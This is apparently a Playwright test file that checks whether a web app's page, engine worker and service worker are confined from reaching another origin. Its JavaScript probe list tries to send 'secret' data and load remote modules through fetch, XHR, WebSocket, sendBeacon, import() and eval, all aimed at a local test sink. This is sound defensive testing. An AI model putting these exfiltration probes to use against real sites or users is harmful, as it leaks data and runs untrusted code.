"""Issue 14, point 1: on a host that sends no headers (GitHub Pages), the page, its engine worker and its
service worker cannot reach another origin or run code from strings. A sink on another port of 127.0.0.1
(another origin) answers every request as openly as it can and must receive nothing."""


from conftest import wait_engine_ready
from security_helpers import plain_url, sink  # noqa: F401  (fixtures)

# Every way out we know of, each one tried on its own; the value says whether it got through.
PROBES = """async (sink) => {
  const outcome = {};
  const attempt = async (name, run) => {
    if (run === null) { outcome[name] = "blocked"; return; }  // not there at all in this context
    try { outcome[name] = (await run()) === false ? "blocked" : "went through"; }
    catch (err) { outcome[name] = "blocked"; }
  };
  const event = (target, ok, bad) => new Promise((resolve) => {
    target.addEventListener(ok, () => resolve(true));
    target.addEventListener(bad, () => resolve(false));
    setTimeout(() => resolve(false), 3000);
  });
  await attempt("fetch POST", () =>
    fetch(sink + "/fetch", { method: "POST", body: "name and first bytes" }).then((r) => r.text()));
  await attempt("fetch no-cors", () => fetch(sink + "/no-cors", { mode: "no-cors" }));
  await attempt("XMLHttpRequest", typeof XMLHttpRequest === "undefined" ? null : () => {
    const xhr = new XMLHttpRequest();
    xhr.open("POST", sink + "/xhr");
    const done = event(xhr, "load", "error");
    xhr.send("secret");
    return done;
  });
  await attempt("WebSocket", typeof WebSocket === "undefined" ? null
    : () => event(new WebSocket(sink.replace("http", "ws") + "/ws"), "open", "error"));
  await attempt("EventSource", typeof EventSource === "undefined" ? null
    : () => event(new EventSource(sink + "/events"), "open", "error"));
  await attempt("import()", () => import(sink + "/module.js"));
  if (typeof importScripts === "function") await attempt("importScripts", () => importScripts(sink + "/classic.js"));
  await attempt("eval", () => eval("1 + 1"));
  await attempt("new Function", () => new Function("return 1")());
  await attempt("async function constructor", () => (async function () {}).constructor("return 1")());
  // sendBeacon says true once it has queued the request, sent or not: only the sink can tell.
  if (typeof navigator.sendBeacon === "function") {
    await attempt("sendBeacon", () => { navigator.sendBeacon(sink + "/beacon", "secret"); return false; });
  }
  await new Promise((resolve) => setTimeout(resolve, 500));  // what was queued has had its chance to go
  if (typeof Image === "function") {
    await attempt("image", () => event(Object.assign(new Image(), { src: sink + "/pixel.png" }), "load", "error"));
  }
  return outcome;
}"""


def _assert_all_blocked(outcome: dict, received: list, where: str):
    assert outcome, where
    assert {name: result for name, result in outcome.items() if result != "blocked"} == {}, where
    assert received == [], f"{where}: the sink received {received}"


def _engine_worker(page):
    """The engine worker (the one started from the page's blob: bootstrap)."""
    for worker in page.workers:
        if worker.url.startswith("blob:"):
            return worker
    raise AssertionError(f"no engine worker among {[w.url for w in page.workers]}")


def test_the_server_sends_none_of_the_sites_headers(plain_url):
    import urllib.request

    with urllib.request.urlopen(plain_url + "app/worker.js") as response:
        names = {name.lower() for name in response.headers}
    assert not names & {"content-security-policy", "x-content-type-options", "referrer-policy", "permissions-policy"}


def test_the_page_cannot_reach_another_origin(plain_page, sink):
    wait_engine_ready(plain_page)
    _assert_all_blocked(plain_page.evaluate(PROBES, sink[0]), sink[1], "page")


def test_the_engine_worker_cannot_reach_another_origin(plain_page, sink):
    wait_engine_ready(plain_page)
    outcome = _engine_worker(plain_page).evaluate(PROBES, sink[0])
    _assert_all_blocked(outcome, sink[1], "engine worker")


def _evaluate_in_service_worker(browser, site_url: str, expression: str, timeout_s: float = 60):
    """Run `expression` in the site's service worker through the DevTools protocol. (Playwright's own
    Worker.evaluate calls the worker's eval, which this service worker has disabled.)"""
    import json
    import time

    cdp = browser.new_browser_cdp_session()
    deadline = time.monotonic() + timeout_s
    while True:
        targets = cdp.send("Target.getTargets")["targetInfos"]
        found = [t for t in targets if t["type"] == "service_worker" and t["url"].startswith(site_url)]
        if found or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert found, "no service worker for the site"
    replies = []
    cdp.on("Target.receivedMessageFromTarget", lambda event: replies.append(json.loads(event["message"])))
    session = cdp.send("Target.attachToTarget", {"targetId": found[0]["targetId"], "flatten": False})["sessionId"]
    message = {"id": 1, "method": "Runtime.evaluate",
               "params": {"expression": expression, "awaitPromise": True, "returnByValue": True}}
    cdp.send("Target.sendMessageToTarget", {"sessionId": session, "message": json.dumps(message)})
    while not any(r.get("id") == 1 for r in replies) and time.monotonic() < deadline + 30:
        cdp.send("Target.getTargets")  # lets the session deliver its events
        time.sleep(0.2)
    reply = next(r for r in replies if r.get("id") == 1)
    cdp.detach()
    assert "exceptionDetails" not in reply["result"], reply
    return reply["result"]["result"]["value"]


def test_the_service_worker_cannot_reach_another_origin(browser, plain_page, plain_url, sink):
    wait_engine_ready(plain_page)
    import json

    outcome = _evaluate_in_service_worker(browser, plain_url, f"({PROBES})({json.dumps(sink[0])})")
    _assert_all_blocked(outcome, sink[1], "service worker")


def test_a_worker_started_from_its_own_url_would_not_be_confined(plain_page, sink):
    """Why the page starts its worker from a blob: bootstrap: on this host a worker started from its own URL
    runs with no policy at all, and the same probes reach the sink (which shows the sink sees leaks)."""
    wait_engine_ready(plain_page)
    with plain_page.expect_worker(lambda w: w.url.endswith("/app/worker.js")) as started:
        plain_page.evaluate("() => { window.unconfined = new Worker('app/worker.js', { type: 'module' }); }")
    outcome = started.value.evaluate(PROBES, sink[0])
    assert outcome["import()"] == "went through" and outcome["eval"] == "went through"
    assert ("GET", "/module.js", b"") in sink[1] and ("GET", "/ws", b"") in sink[1]
